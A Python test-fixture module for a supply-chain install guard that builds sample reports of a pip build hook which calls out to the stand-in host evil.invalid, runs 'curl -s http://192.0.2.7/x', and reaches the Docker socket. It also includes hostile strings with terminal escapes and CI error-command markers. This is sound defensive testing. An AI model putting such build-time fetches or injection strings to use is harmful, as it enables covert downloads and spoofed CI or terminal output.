"""Reports about guarded runs, one for each screen."""

from dataclasses import replace
from datetime import timedelta

from doorward.model.findings import (
    Coverage,
    Evidence,
    Family,
    Finding,
    Report,
    Severity,
    Strength,
    SubjectVerdict,
    Verdict,
)
from doorward.model.run import (
    Actor,
    Attribution,
    Connection,
    Endpoint,
    Grade,
    LibraryUse,
    Mode,
    Outcome,
    Phase,
    Process,
    Run,
)
from tests.outputs.reports import NOW, UNTIL

CALLER = "pkg:pypi/caller@1.0"
PIP = Process(10, ("pip", "install", "caller"), "/usr/bin/python3", "/work", 1)
HOOK = Process(11, ("python", "_in_process.py", "build_wheel"), "/usr/bin/python3", "/tmp/pip-install-x/caller", 2)
CURL = Process(12, ("curl", "-s", "http://192.0.2.7/x"), "/usr/bin/curl", "/tmp/pip-install-x/caller", 3)
BUILD = Attribution("pypi", "caller", "1.0", CALLER, "/tmp/pip-install-x/caller/setup.py:7", "python-hook")
RESOLVE = Attribution("pypi", "pip", "25.0", "pkg:pypi/pip@25.0", by="python-hook")


def connection(
    phase: Phase, who: Attribution, chain: tuple[Process, ...], host: str, place: tuple[str, int], outcome: str, **more
) -> Connection:
    address, port = place
    family = "unix" if address.startswith("/") else "ipv4"
    endpoint = Endpoint(family, address, port, "unix" if family == "unix" else "tcp")
    return Connection(more.pop("time", NOW), Actor(phase, chain, who), endpoint, host, Outcome(outcome), **more)


RUN = Run(
    "0123456789abcdef",
    ("pip", "install", "caller"),
    Mode.OBSERVE,
    NOW,
    4.2,
    0,
    None,
    Grade.OBSERVED,
    connections=(
        connection(Phase.RESOLVE, RESOLVE, (PIP,), "registry.example", ("192.0.2.1", 443), "allowed", count=4),
        connection(
            Phase.BUILD,
            BUILD,
            (PIP, HOOK),
            "evil.invalid",
            ("192.0.2.7", 443),
            "observed",
            time=NOW + timedelta(seconds=1),
        ),
        connection(Phase.BUILD, BUILD, (PIP, HOOK, CURL), "", ("192.0.2.7", 80), "observed", count=3),
    ),
    local=(connection(Phase.BUILD, BUILD, (PIP, HOOK), "docker", ("/var/run/docker.sock", 0), "observed"),),
    libraries=(
        LibraryUse("pypi", "caller", "1.0", CALLER, (Phase.BUILD,)),
        LibraryUse("pypi", "pip", "25.0", "pkg:pypi/pip@25.0", (Phase.RESOLVE, Phase.BUILD)),
    ),
    names_visible=True,
)
FOUND = Finding(
    rule="runtime/build-phase-connection",
    detection="DS0015",
    subject=CALLER,
    family=Family.BEHAVIOUR,
    strength=Strength.STRONG,
    severity=Severity.HIGH,
    message="Code of the release reached evil.invalid:443 (192.0.2.7) and 1 more endpoint while it was built.",
    evidence=(
        Evidence(
            "observed", "evil.invalid:443 (192.0.2.7), tcp", "setup.py:7", "builds and installations reach nothing"
        ),
        Evidence("by", "pip install caller > python _in_process.py build_wheel"),
    ),
    advice="read the named line; do not install the release until it is explained.",
)


def guard() -> Report:
    """A build that calls home, observed."""
    return Report(
        Verdict.HOLD,
        (
            SubjectVerdict(CALLER, Verdict.HOLD, until=UNTIL),
            SubjectVerdict("pkg:pypi/pip@25.0", Verdict.CLEAN),
            SubjectVerdict("run:0123456789abcdef", Verdict.CLEAN),
        ),
        (FOUND,),
        (),
        (
            Coverage("attribution", 4, 4, "told by python-hook 4"),
            Coverage("behaviour", 3, 3),
            Coverage("known-malware", 0, 3, "no feed is imported"),
        ),
        until=UNTIL,
        packages=2,
        evaluated=69,
        header=(
            ("guard", "pip install caller"),
            ("mode", "observe, grade observed"),
            ("run", "0123456789abcdef, ended with 0"),
        ),
        seconds=4.3,
        observed_at=NOW,
        run=RUN,
    )


def guard_block() -> Report:
    """The same, refused."""
    refused = [
        replace(item, outcome=Outcome.REFUSED) if item.outcome is Outcome.OBSERVED else item for item in RUN.connections
    ]
    run = replace(RUN, mode=Mode.BLOCK, grade=Grade.ENFORCED, connections=tuple(refused), local=(), exit=1, refused=4)
    return replace(guard(), run=run, header=(*guard().header[:1], ("mode", "block, grade enforced")))


def guard_hostile() -> Report:
    """Every text of the run wants to be obeyed, and there is much of it."""
    bad = "\x1b[31m::error::x\n##[error]\u202ey" + "z" * 300
    process = Process(13, (bad, bad), bad, bad, 4)
    who = Attribution("pypi", bad, bad, "pkg:pypi/x@1", f"{bad}:1", bad, (bad,))
    many = tuple(
        connection(Phase.TEST, who, (process,) * 1, f"{n}.{bad}", ("192.0.2.9", n), "refused") for n in range(1, 60)
    )
    deep = tuple(Process(20 + n, ("sh", str(n)), "", "", n) for n in range(32))
    run = replace(
        RUN, connections=(*many, connection(Phase.RUN, who, deep, "", ("192.0.2.9", 9), "observed")), local=()
    )
    return replace(guard(), run=replace(run, command=(bad,)), header=())


RUNS = {"guard": guard, "guard-block": guard_block, "guard-hostile": guard_hostile}
